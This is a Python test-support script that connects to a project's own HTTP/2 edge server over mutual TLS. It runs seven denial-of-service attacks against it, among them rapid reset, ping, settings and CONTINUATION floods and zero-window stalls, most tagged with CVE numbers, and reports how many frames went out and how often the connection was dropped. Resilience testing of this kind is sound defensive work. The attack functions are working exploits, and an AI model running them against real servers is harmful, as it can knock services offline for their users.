"""A client of the edge that keeps to TLS and breaks HTTP/2's manners: `python -m tests.support.hostile_http2`.

It runs in a process of its own, so that what it costs the honest caller is the edge's doing and not Python's. It prints
how many frames it sent, and how often it was sent away.
"""

from __future__ import annotations

import argparse
import itertools
import json
import socket
import ssl
import time
from collections.abc import Callable, Iterator
from contextlib import suppress

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_CANCEL = 8
_STREAMS = 2**30
_AT_ONCE = 64
_PATIENCE_SECONDS = 2.0
_METHOD = "/contactpoint.directory.v1.DirectoryService/SearchChildren"


class SentAway(Exception):
    """The edge closed the connection."""


class Connection:
    """One connection under mutual TLS, and whatever frames the attack writes to it."""

    def __init__(self, given: argparse.Namespace, settings: dict[int, int]) -> None:
        context = ssl.create_default_context(cafile=given.ca)
        context.load_cert_chain(given.certificate, given.private_key)
        context.set_alpn_protocols(["h2"])
        host, _, port = given.edge.rpartition(":")
        self._socket = context.wrap_socket(socket.create_connection((host, int(port)), 5), server_hostname=host)
        self._encoder = Encoder()
        self._socket.sendall(_PREFACE + SettingsFrame(0, settings).serialize())
        self._socket.sendall(SettingsFrame(0, flags=["ACK"]).serialize())

    def send(self, *frames: Frame) -> None:
        """Send frames at once; raises SentAway."""
        try:
            self._drop_what_came()
            self._socket.settimeout(_PATIENCE_SECONDS)
            self._socket.sendall(b"".join(frame.serialize() for frame in frames))
        except OSError:
            raise SentAway from None

    def headers(self, stream: int, *, is_whole: bool = True) -> HeadersFrame:
        """Return the beginning of a call that would like to live for ever."""
        # Not indexed: the attack needs no memory of its own on the other side.
        block = self._encoder.encode(
            [
                (":method", "POST"),
                (":scheme", "https"),
                (":path", _METHOD),
                (":authority", "edge"),
                ("content-type", "application/grpc"),
                ("te", "trailers"),
                ("grpc-timeout", "99999999H"),
            ]
        )
        return HeadersFrame(stream, block, flags=["END_HEADERS"] if is_whole else [])

    def close(self) -> None:
        """Close."""
        with suppress(OSError):
            self._socket.close()

    def _drop_what_came(self) -> None:
        self._socket.settimeout(0)
        with suppress(ssl.SSLWantReadError):
            while self._socket.recv(1 << 16):
                pass
            raise SentAway


def rapid_reset(connection: Connection) -> Iterator[int]:
    """Begin calls and take each back at once (CVE-2023-44487)."""
    streams = itertools.count(1, 2)
    while True:
        frames: list[Frame] = []
        for stream in itertools.islice(streams, _AT_ONCE):
            frames += [connection.headers(stream), RstStreamFrame(stream, error_code=_CANCEL)]
        connection.send(*frames)
        yield len(frames)


def never_finished(connection: Connection) -> Iterator[int]:
    """Begin calls and never say what is asked; what is over the limit of streams is begun all the same."""
    for stream in range(1, _STREAMS, 2):
        connection.send(connection.headers(stream))
        yield 1
        time.sleep(0.001)


def one_byte_at_a_time(connection: Connection) -> Iterator[int]:
    """Begin many calls and send each request byte by byte."""
    streams = range(1, 2 * _AT_ONCE, 2)
    connection.send(*(connection.headers(stream) for stream in streams))
    message = bytes([0, 0, 0, 1, 0]) + bytes(256)
    for byte in message:
        connection.send(*(DataFrame(stream, bytes([byte])) for stream in streams))
        yield len(streams)
        time.sleep(0.05)


def pings(connection: Connection) -> Iterator[int]:
    """Ask for nothing but answers to pings (CVE-2019-9512)."""
    while True:
        connection.send(*(PingFrame(0, b"contactp") for _ in range(_AT_ONCE)))
        yield _AT_ONCE


def settings(connection: Connection) -> Iterator[int]:
    """Change the settings for ever (CVE-2019-9515)."""
    while True:
        connection.send(*(SettingsFrame(0, {SettingsFrame.INITIAL_WINDOW_SIZE: 65535}) for _ in range(_AT_ONCE)))
        yield _AT_ONCE


def continuations(connection: Connection) -> Iterator[int]:
    """Begin one call whose headers never end (CVE-2024-27316)."""
    connection.send(connection.headers(1, is_whole=False))
    more = b"".join(b"\x00\x0fcontactpoint-%03d\x08whatever" % n for n in range(200))
    while True:
        connection.send(ContinuationFrame(1, more))
        yield 1


def no_window(connection: Connection) -> Iterator[int]:
    """Ask, and leave no room for any answer (CVE-2019-9517)."""
    for stream in range(1, _STREAMS, 2):
        connection.send(connection.headers(stream), DataFrame(stream, bytes(5), flags=["END_STREAM"]))
        yield 2
        # Slowly: answering is work, and how much of it one caller may ask for is another matter.
        time.sleep(0.01)


ATTACKS: dict[str, Callable[[Connection], Iterator[int]]] = {
    attack.__name__: attack
    for attack in (rapid_reset, never_finished, one_byte_at_a_time, pings, settings, continuations, no_window)
}


def main() -> None:
    """Attack until the time is up, with a new connection whenever the old one was closed."""
    parser = argparse.ArgumentParser(description=__doc__)
    for name in ("edge", "ca", "certificate", "private-key"):
        parser.add_argument(f"--{name}", required=True)
    parser.add_argument("--attack", choices=ATTACKS, required=True)
    parser.add_argument("--seconds", type=float, required=True)
    given = parser.parse_args()
    window = 0 if given.attack == no_window.__name__ else 65535
    sent = away = 0
    end = time.monotonic() + given.seconds
    while time.monotonic() < end:
        try:
            connection = Connection(given, {SettingsFrame.INITIAL_WINDOW_SIZE: window})
        except OSError:
            away += 1
            time.sleep(0.02)
            continue
        try:
            for frames in ATTACKS[given.attack](connection):
                sent += frames
                if time.monotonic() > end:
                    break
        except SentAway:
            away += 1
        finally:
            connection.close()
    print(json.dumps({"frames": sent, "sent_away": away}), flush=True)


if __name__ == "__main__":
    main()
